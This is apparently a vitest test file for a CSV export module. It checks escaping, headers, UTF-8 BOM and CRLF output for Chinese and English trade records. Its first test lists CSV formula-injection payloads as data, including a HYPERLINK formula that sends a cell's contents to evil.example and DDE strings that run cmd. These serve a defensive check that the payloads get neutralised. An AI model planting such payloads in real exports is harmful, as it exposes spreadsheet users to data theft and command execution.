import { parse } from "csv-parse/sync";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { cellsOf, columns, headersIn } from "../../../../../functions/records/exports/formats/columns.ts";
import { csv, csvRow } from "../../../../../functions/records/exports/formats/csv.ts";
import type { ExportAsked } from "../../../../../functions/records/exports/formats/format.ts";
import { aTrade } from "../../../../support/a-trade.ts";

const asked: ExportAsked = {
  area: "420700",
  selection: {},
  from: "2024-05-06T00:00:00.000Z",
  before: "2024-06-06T00:00:00.000Z",
  language: "zh",
};
const text = (value: string) => ({ text: value, isNumber: false });

describe("a cell of a CSV file", () => {
  it("that would begin a formula or a command stands behind an apostrophe", () => {
    for (const attack of [
      '=HYPERLINK("http://evil.example?"&A1,"Click")',
      "=cmd|' /C calc'!A0",
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "  =1+1",
      "\u3000=1+1",
      "＝1+1",
      "－1",
      "-5",
    ]) {
      const [[cell]] = parse(csvRow([text(attack)]), { relax_quotes: false, skip_empty_lines: false }) as [[string]];
      expect(cell).toBe(`'${attack}`);
    }
  });

  it("stays one where a program divides cells at semicolons or tabs, so that nothing in it begins another", () => {
    for (const name of ["长江纸业;=1+1", "长江纸业\t=1+1"]) expect(csvRow([text(name), text("b")])).toBe(`"${name}",b\r\n`);
  });

  it("that is a negative number of a column of numbers stays a number, and whatever else stands there does not", () => {
    expect(csvRow([{ text: "-25961.00", isNumber: true }, text("-25961.00")])).toBe("-25961.00,'-25961.00\r\n");
    const [record] = [{ ...aTrade(asked.from, 0), amount: "-1e5", quantity: "-6" }];
    const cells = cellsOf(record, "zh");
    const at = (zh: string) => cells[columns.findIndex(({ header }) => header.zh === zh)];
    expect(at("数量")).toEqual({ text: "-6", isNumber: true });
    expect(at("金额（元）")).toEqual({ text: "-1e5", isNumber: false });
  });

  it("is read back by any reader of RFC 4180 as it was, whatever it holds", () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: "grapheme" }), { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          const file = rows.map((cells) => csvRow(cells.map(text))).join("");
          const read = parse(file, { record_delimiter: "\r\n", relax_column_count: true }) as string[][];
          expect(read.map((cells) => cells.map((cell) => cell.replace(/^'(?=\s*[=+\-@＝＋－＠]|[\t\r\n])/u, "")))).toEqual(rows);
          for (const cell of read.flat()) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u);
        },
      ),
    );
  });
});

describe("a CSV file", () => {
  it("begins with the mark of UTF-8 and a header in the language that was asked for, and each line ends with CRLF", () => {
    const { bytes } = csv.begin(asked);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(Buffer.from(bytes).toString()).toBe(`\uFEFF${headersIn("zh").join(",")}\r\n`);
    expect(Buffer.from(csv.begin({ ...asked, language: "en" }).bytes).toString()).toContain("Buyer's credit code");
  });

  it("has everything that a record says: each member has columns, each header is there once in each language", () => {
    for (const language of ["zh", "en"] as const) expect(new Set(headersIn(language)).size).toBe(columns.length);
    expect(headersIn("zh").filter((header) => /[a-z]/.test(header.replaceAll(" x ", "")))).toEqual([]);
    const record = aTrade(asked.from, 0, {
      ...{
        reverses: "r-1",
        months: 33,
        held: "1",
        ground: "court",
        instalments: [{ number: 1, amountCny: "6400.00" }],
        published: ["price"],
      },
      ...{ projectName: "New line", eiaNumber: "EIA-1", offsetRatio: "1.5", offsetGround: "quality", retiredTonnes: "3" },
      ...{
        contractNumber: "C-1",
        confirmationNumber: "N-1",
        registrationNumber: "R-1",
        caseNumber: "（2026）鄂07执1号",
        blockReference: "B-1",
        project: "p",
      },
    });
    const row = Buffer.from(csv.rows(asked, null, [record]).bytes).toString();
    const [read] = parse(row) as [string[]];
    for (const value of Object.values(record)) if (typeof value !== "object") expect(read).toContain(String(value));
    expect(read).toContain("4390 x 4: 17560; 4200.5 x 2: 8401");
  });
});
